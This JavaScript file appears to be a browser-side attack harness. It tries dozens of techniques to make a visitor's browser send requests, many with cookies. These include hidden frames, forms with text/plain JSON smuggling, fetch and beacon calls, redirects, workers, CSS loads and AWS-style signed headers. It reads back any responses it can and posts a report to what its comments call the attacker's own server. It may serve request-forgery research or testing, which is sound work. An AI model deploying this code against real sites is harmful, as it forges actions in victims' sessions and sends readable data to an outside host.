// Every way that we know to make a visitor's browser send a request. A trick gets a shot: a URL and, where it posts,
// a body. It returns what it could read of the answer, or nothing.
const parameters = new URLSearchParams(location.search)
/** The attacker's own server, which redirects and serves as the query says. */
const own = (path, query) => `${parameters.get('own') || location.origin}/${path}?${new URLSearchParams(query)}`
const form = 'application/x-www-form-urlencoded'

/** Resolves after this time, or when the page has nothing else to do: on a busy machine, what is under way may take longer. */
const after = (ms) => new Promise((done) => setTimeout(() => requestIdleCallback(done), ms))
const soon = (promise) => Promise.race([promise, after(2000)])
const settled = (target) =>
  soon(
    new Promise((done) => {
      target.onload = target.onerror = target.onclose = target.onmessage = done
    }),
  )

async function add(name, attributes, parent = document.body) {
  const element = Object.assign(document.createElement(name), attributes)
  const done = settled(element)
  parent.append(element)
  await done
  return element
}

/** What of a frame or window of another origin can be read. */
function readFrom(view) {
  try {
    return view.location.href === 'about:blank' ? '' : view.document.documentElement.outerHTML
  } catch {
    return ''
  }
}

/** Resolve when frames are removed. */
const removals = []

async function frame(attributes) {
  const element = await add('iframe', attributes)
  const read = readFrom(element.contentWindow)
  // A frame may send requests after it was loaded.
  removals.push(after(1500).then(() => element.remove()))
  return attributes.src ? read : ''
}
const html = (markup, more) => frame({ src: own('page', { html: markup, ...more }) }).then(() => '')
const sandboxed = (script) => frame({ sandbox: 'allow-scripts allow-forms', srcdoc: `<script>${script}</script>` })
const quoted = (text) => text.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;')
const markup = (name, attributes) =>
  `<${name} ${Object.entries(attributes)
    .map(([key, value]) => `${key}="${quoted(value)}"`)
    .join(' ')}>`
const css = (rule) => html(`<style>${rule}</style><p id="p"><q>x</q><ul><li>x</ul>`)

async function readFetch(url, init) {
  const answer = await fetch(url, init)
  return answer.text()
}
const request = (method, url, headers = {}, body = null, credentials = false) =>
  new Promise((done) => {
    const xhr = new XMLHttpRequest()
    xhr.onloadend = () => done(xhr.responseText)
    xhr.open(method, url)
    xhr.withCredentials = credentials
    for (const [name, value] of Object.entries(headers)) xhr.setRequestHeader(name, value)
    xhr.send(body)
  })

/** A form that is submitted into a frame of its own; its body, as far as a form can write it. */
async function submit({ url, body }, { method = 'post', enctype = form, submitter = false, popup = false }) {
  const name = popup ? '_blank' : `frame${Math.random()}`
  const into = popup ? undefined : Object.assign(document.createElement('iframe'), { name })
  if (into) document.body.append(into)
  const sent = Object.assign(document.createElement('form'), {
    method,
    enctype,
    target: name,
    action: submitter ? location.href : url,
  })
  const fields =
    enctype === 'text/plain' && !body.startsWith('Action=')
      ? // name=value is all that text/plain can say: the equals sign hides in a member of the JSON.
        [[body.replace(/\}$/, `${body === '{}' ? '' : ','}"a":"`), '"}']]
      : [...new URLSearchParams(method === 'get' ? new URL(url).search : body)]
  for (const [field, value] of fields) {
    sent.append(Object.assign(document.createElement('input'), { name: field, value, type: 'hidden' }))
  }
  const button = Object.assign(
    document.createElement('button'),
    submitter ? { formAction: url, formMethod: method } : {},
  )
  sent.append(button)
  document.body.append(sent)
  const done = into && settled(into)
  if (submitter) button.click()
  else sent.submit()
  await done
  const read = into ? readFrom(into.contentWindow) : ''
  sent.remove()
  into?.remove()
  return read
}

/** What only gets. */
const getting = {
  image: ({ url }) => add('img', { src: url }),
  'image with a set of sources': ({ url }) => add('img', { srcset: `${url} 1x` }),
  'image with cookies by CORS': ({ url }) => add('img', { crossOrigin: 'use-credentials', src: url }),
  'image button': ({ url }) => html(markup('input', { type: 'image', src: url })),
  'image of SVG': ({ url }) => html(`<svg>${markup('image', { href: url })}</svg>`),
  'background of a body': ({ url }) => html(markup('body', { background: url })),
  script: ({ url }) => add('script', { src: url }),
  'module script': ({ url }) => add('script', { type: 'module', src: url }),
  'import()': ({ url }) => import(url).then((module) => JSON.stringify(module)),
  stylesheet: async ({ url }) => {
    const link = await add('link', { rel: 'stylesheet', href: url })
    try {
      return [...link.sheet.cssRules].map((rule) => rule.cssText).join()
    } catch {
      return ''
    }
  },
  'CSS import': ({ url }) => css(`@import "${url}";`),
  'CSS background': ({ url }) => css(`p { background: url("${url}") }`),
  'CSS list, cursor and content': ({ url }) =>
    css(`li { list-style-image: url("${url}") } q::before { content: url("${url}") }`),
  'CSS mask': ({ url }) => css(`p { mask-image: url("${url}") }`),
  font: ({ url }) => css(`@font-face { font-family: f; src: url("${url}") } p { font-family: f }`),
  'font by JavaScript': ({ url }) => new FontFace('f', `url("${url}")`).load(),
  prefetch: ({ url }) => add('link', { rel: 'prefetch', href: url }),
  preload: ({ url }) => add('link', { rel: 'preload', as: 'script', href: url }),
  'module preload': ({ url }) => add('link', { rel: 'modulepreload', href: url }),
  'speculation rules': ({ url }) => {
    const rules = { prefetch: [{ source: 'list', urls: [url] }] }
    document.head.append(
      Object.assign(document.createElement('script'), { type: 'speculationrules', text: JSON.stringify(rules) }),
    )
  },
  frame: ({ url }) => frame({ src: url }),
  'frame of a frameset': ({ url }) => html(`<frameset>${markup('frame', { src: url })}</frameset>`),
  'sandboxed frame': ({ url }) => frame({ sandbox: '', src: url }),
  embed: ({ url }) => add('embed', { src: url }),
  object: ({ url }) => add('object', { data: url }),
  video: ({ url }) => add('video', { src: url, preload: 'auto' }),
  poster: ({ url }) => html(markup('video', { poster: url })),
  audio: ({ url }) => add('audio', { src: url, preload: 'auto' }),
  subtitles: ({ url }) =>
    html(`<video crossorigin src="data:video/mp4,"><track default kind="metadata" src="${quoted(url)}"></video>
      <script>document.querySelector('track').track.mode = 'showing'</script>`),
  'meta refresh': ({ url }) => html(`<meta http-equiv="refresh" content="0;url=${quoted(url)}">`),
  'refresh header': ({ url }) => html('', { refresh: url }),
  'frame that redirects': ({ url }) => frame({ src: own('redirect', { status: 302, to: url }) }),
  'image that redirects': ({ url }) => add('img', { src: own('redirect', { status: 302, to: url }) }),
  'frame that navigates': ({ url }) => html(`<script>location = ${JSON.stringify(url)}</script>`),
  'form that gets': (shot) => submit(shot, { method: 'get' }),
  'link, clicked': ({ url }) =>
    html(`<a href="${quoted(url)}">x</a><script>document.querySelector('a').click()</script>`),
  window: async ({ url }) => {
    const opened = open(url)
    const isBlank = () => {
      try {
        return opened.location.href === 'about:blank'
      } catch {
        return false
      }
    }
    while (opened && isBlank()) await new Promise((done) => setTimeout(done, 20))
    const read = opened ? readFrom(opened) : ''
    opened?.close()
    return read
  },
  'fetch by no-cors': ({ url }) => readFetch(url, { mode: 'no-cors', credentials: 'include' }),
  'fetch by cors': ({ url }) => readFetch(url),
  'fetch by cors with cookies': ({ url }) => readFetch(url, { credentials: 'include' }),
  'fetch that redirects': ({ url }) => readFetch(own('redirect', { status: 302, to: url })),
  'fetch with a range': ({ url }) => readFetch(url, { mode: 'no-cors', headers: { range: 'bytes=0-' } }),
  'fetch without a referrer': ({ url }) => readFetch(url, { mode: 'no-cors', referrerPolicy: 'no-referrer' }),
  HEAD: ({ url }) => readFetch(url, { method: 'HEAD', mode: 'no-cors' }),
  XMLHttpRequest: ({ url }) => request('GET', url),
  EventSource: async ({ url }) => {
    const source = new EventSource(url, { withCredentials: true })
    const event = await settled(source)
    source.close()
    return event?.data
  },
  WebSocket: async ({ url }) => {
    const socket = new WebSocket(url.replace('http', 'ws'))
    const event = await settled(socket)
    socket.close()
    return event?.data
  },
  'worker that imports': ({ url }) =>
    settled(
      new Worker(own('script', { text: `try { importScripts(${JSON.stringify(url)}) } finally { postMessage('') }` })),
    ).then(() => ''),
  'service worker that imports': ({ url }) =>
    soon(
      navigator.serviceWorker.register(own('script', { text: `importScripts(${JSON.stringify(url)})` }), {
        scope: '/nowhere',
      }),
    ).then(() => ''),
  'frame of data that fetches': ({ url }) =>
    frame({
      src: `data:text/html,${encodeURIComponent(`<script>fetch(${JSON.stringify(url)}, { mode: 'no-cors' })</script>`)}`,
    }).then(() => ''),
  'sandboxed page that fetches': ({ url }) => sandboxed(`fetch(${JSON.stringify(url)}, { mode: 'no-cors' })`),
}

/** What posts. The last ones need a preflight, since a form cannot send them. */
const posting = {
  'form, urlencoded': (shot) => submit(shot, {}),
  'form, multipart': (shot) => submit(shot, { enctype: 'multipart/form-data' }),
  'form, text/plain': (shot) => submit(shot, { enctype: 'text/plain' }),
  'form by its button': (shot) => submit(shot, { submitter: true }),
  'form into a window': (shot) =>
    submit(shot, { popup: true }).then(() => new Promise((done) => setTimeout(done, 100))),
  'form that redirects': ({ url, body }) => submit({ url: own('redirect', { status: 307, to: url }), body }, {}),
  'form of text that redirects': ({ url, body }) =>
    submit({ url: own('redirect', { status: 308, to: url }), body }, { enctype: 'text/plain' }),
  'form of a sandboxed page': ({ url, body }) =>
    sandboxed(
      `document.write('<form method=post enctype=text/plain>'); const f = document.forms[0]; f.action = ${JSON.stringify(url)};` +
        `const i = document.createElement('input'); i.name = ${JSON.stringify(body)}; f.append(i); f.submit()`,
    ),
  'ping of a link': ({ url }) =>
    html(`<a href="#x" ping="${quoted(url)}">x</a><script>document.querySelector('a').click()</script>`),
  'report of a broken policy': ({ url }) =>
    html('<img src="data:,x">', { policy: `img-src 'none'; report-uri ${url}` }),
  ...Object.fromEntries(
    ['text/plain', form, 'multipart/form-data; boundary=x', ''].flatMap((type) => [
      [
        `fetch, ${type || 'no type'}`,
        ({ url, body }) =>
          readFetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body: new Blob([body], { type }) }),
      ],
      [
        `fetch by cors, ${type || 'no type'}`,
        ({ url, body }) => readFetch(url, { method: 'POST', body: new Blob([body], { type }) }),
      ],
      [`beacon, ${type || 'no type'}`, ({ url, body }) => void navigator.sendBeacon(url, new Blob([body], { type }))],
      [`XMLHttpRequest, ${type || 'no type'}`, ({ url, body }) => request('POST', url, {}, new Blob([body], { type }))],
    ]),
  ),
  'beacon of a form': ({ url, body }) => {
    const data = new FormData()
    for (const [name, value] of new URLSearchParams(body)) data.append(name, value)
    return void navigator.sendBeacon(url, data)
  },
  'beacon of JSON': ({ url, body }) => void navigator.sendBeacon(url, new Blob([body], { type: 'application/json' })),
  'fetch that stays alive': ({ url, body }) =>
    readFetch(url, { method: 'POST', mode: 'no-cors', keepalive: true, body }),
  'fetch that posts without a referrer': ({ url, body }) =>
    readFetch(url, { method: 'POST', mode: 'no-cors', referrerPolicy: 'no-referrer', body }),
  'fetch that posts and redirects': ({ url, body }) =>
    readFetch(own('redirect', { status: 307, to: url }), { method: 'POST', mode: 'no-cors', body }),
  'sandboxed page that posts': ({ url, body }) =>
    sandboxed(`fetch(${JSON.stringify(url)}, { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(body)} })`),

  'JSON by cors': ({ url, body }) =>
    readFetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body }),
  'PUT by cors': ({ url, body }) => readFetch(url, { method: 'PUT', body }),
  'DELETE by cors': ({ url }) => readFetch(url, { method: 'DELETE' }),
  'headers of AWS by cors': ({ url, body, headers }) => readFetch(url, { method: 'POST', headers, body }),
  'headers of AWS by XMLHttpRequest': ({ url, body, headers }) => request('POST', url, headers, body, true),
}

const tricks = { ...getting, ...posting }

/** Tries these shots with a trick. Returns what the page could read. */
async function attack(name, shots) {
  const read = await Promise.all(
    shots.map(async (shot) => {
      const url = new URL(shot.url)
      url.searchParams.append('trick', name)
      const found = await soon(
        Promise.resolve()
          .then(() => tricks[name]({ ...shot, url: url.href }))
          .catch(() => ''),
      )
      return typeof found === 'string' ? found : ''
    }),
  )
  return read.filter(Boolean)
}

/** Tries every shot with every trick, or with those that are named, and reports to the attacker's server. */
window.attackAs = async ({ gets, posts, only, atOnce }) => {
  const volleys = [
    ...Object.keys(getting).map((name) => ({ name, shots: gets })),
    ...Object.keys(posting).map((name) => ({ name, shots: posts })),
  ]
  const waiting = volleys.filter(({ name }) => only === undefined || only.includes(name))
  const read = []
  const lane = async () => {
    for (let next = waiting.shift(); next; next = waiting.shift()) read.push(...(await attack(next.name, next.shots)))
  }
  await Promise.all(Array.from({ length: atOnce }, lane))
  await Promise.all(removals)
  // Requests leave by priority, and then in order: when this prefetch is answered, no other request waits to be sent.
  await new Promise((done) => {
    const link = { rel: 'prefetch', href: `${gets[0].url}&last`, onload: done, onerror: done }
    document.head.append(Object.assign(document.createElement('link'), link))
  })
  const report = { names: Object.keys(tricks), read }
  await fetch(own('report', {}), { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) })
}
